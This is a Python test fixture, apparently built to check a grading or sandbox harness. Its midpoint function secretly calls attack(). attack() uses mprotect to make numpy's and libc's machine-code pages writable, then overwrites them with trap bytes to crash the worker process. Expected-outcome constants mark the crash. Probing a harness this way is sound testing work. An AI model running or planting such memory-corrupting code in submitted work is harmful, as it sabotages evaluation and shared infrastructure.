"""Write over machine code of numpy's libraries, whose pages all workers were forked with."""

import ctypes
import mmap

import numpy as np

EARNS, VERDICT, SAYS = 3, "crashed", "crashed the process"

libc = ctypes.CDLL(None, use_errno=True)
libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]

PAGES = 16
TRAP = 0xCC


def attack():
    table = ctypes.cast(id(np.ndarray), ctypes.POINTER(ctypes.c_void_p))
    # The functions of numpy's own array type: what every array of every worker uses.
    code = next(table[slot] for slot in range(6, 40) if table[slot] and table[slot] > 2**32)
    for address in (code, ctypes.cast(libc.getpid, ctypes.c_void_p).value):
        start = address // mmap.PAGESIZE * mmap.PAGESIZE
        if libc.mprotect(start, PAGES * mmap.PAGESIZE, mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC) == 0:
            ctypes.memset(address, TRAP, 64)
    libc.getpid()
    np.zeros(3).copy()


def midpoint(a, b):
    attack()
    return (a + b) / 2
